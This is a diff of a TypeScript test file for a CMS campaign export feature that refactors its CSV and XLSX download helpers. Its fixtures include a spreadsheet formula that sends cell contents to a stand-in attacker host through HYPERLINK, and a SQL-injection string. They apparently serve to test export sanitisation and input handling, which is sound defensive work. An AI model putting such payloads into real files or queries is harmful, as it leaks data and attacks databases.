@@ -1,11 +1,10 @@
-import { Readable } from 'node:stream'
-
-import { REST_GET } from '@payloadcms/next/routes'
 import ExcelJS from 'exceljs'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 
 import { publishables } from '../helpers/editorialFixtures'
+import { csvRows, download, xlsxRows } from '../helpers/exportDownload'
 import { loginAs } from '../helpers/loginAs'
+import { missingId } from '../helpers/missingId'
 import type { RestClient } from '../helpers/rest'
 import { TEST_PASSWORD, type Cast } from '../helpers/seedUsers'
 import type { TestApp } from '../helpers/startPayload'
@@ -23,41 +22,8 @@ const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看"
 const scores = (n: number) => ({ typicality: n, innovation: n, effectiveness: n, replicability: n })
 const caseTransition = { caseTransition: true }
 
-type Download = { status: number; headers: Headers; body: Buffer }
-
-/** The export is a file, so it is read as bytes through the same route handler the app serves. */
-const download = async (path: string, token?: string): Promise<Download> => {
-  const url = new URL(`http://localhost/api${path}`)
-  const headers = new Headers(token ? { Authorization: `JWT ${token}` } : {})
-  const response = await REST_GET(app.config)(new Request(url, { headers }), {
-    params: Promise.resolve({ slug: url.pathname.replace(/^\/api\//, '').split('/') }),
-  })
-  return { status: response.status, headers: response.headers, body: Buffer.from(await response.arrayBuffer()) }
-}
-
-/** The sheet as header → cell value records, as someone reading it in Excel would see them. */
-const xlsxRows = async (body: Buffer) => {
-  const workbook = new ExcelJS.Workbook()
-  await workbook.xlsx.load(new Uint8Array(body).buffer)
-  const sheet = workbook.worksheets[0]
-  const header = (sheet.getRow(1).values as ExcelJS.CellValue[]).slice(1) as string[]
-  const rows: Record<string, ExcelJS.CellValue>[] = []
-  sheet.eachRow((row, number) => {
-    if (number === 1) return
-    rows.push(Object.fromEntries(header.map((name, index) => [name, row.getCell(index + 1).value ?? null])))
-  })
-  return { sheet, header, rows }
-}
-
-const csvRows = async (body: Buffer) => {
-  const workbook = new ExcelJS.Workbook()
-  // Cells are kept as the text in the file, not guessed into numbers or dates.
-  const sheet = await workbook.csv.read(Readable.from(body.subarray(3)), { map: (value: string) => value } as never)
-  return (sheet.getSheetValues() as unknown[][]).filter(Boolean).map((row) => row.slice(1).map(String))
-}
-
 const exportOf = (format: 'csv' | 'xlsx', token?: string) =>
-  download(`/campaigns/${campaignId}/export?format=${format}`, token)
+  download(app, `/campaigns/${campaignId}/export?format=${format}`, token)
 
 const byTitle = (rows: Record<string, ExcelJS.CellValue>[], title: string) =>
   rows.find((row) => row['案例名称'] === title)
@@ -222,7 +188,9 @@ describe('case export', () => {
     expect(unit.data.errors[0].message).toBe('Staff only')
     const anonymous = await rest.get(`/campaigns/${campaignId}/export?format=xlsx`)
     expect(anonymous.status).toBe(401)
-    const missing = await rest.get('/campaigns/999999/export?format=csv', { token: tokens.editor })
+    const missing = await rest.get(`/campaigns/${missingId(app.payload, 'campaigns')}/export?format=csv`, {
+      token: tokens.editor,
+    })
     expect(missing.status).toBe(404)
     expect(missing.data.errors[0].message).toBe('Campaign not found')
     const garbage = await rest.get(`/campaigns/${encodeURIComponent("1' OR 1=1 --")}/export`, { token: tokens.editor })
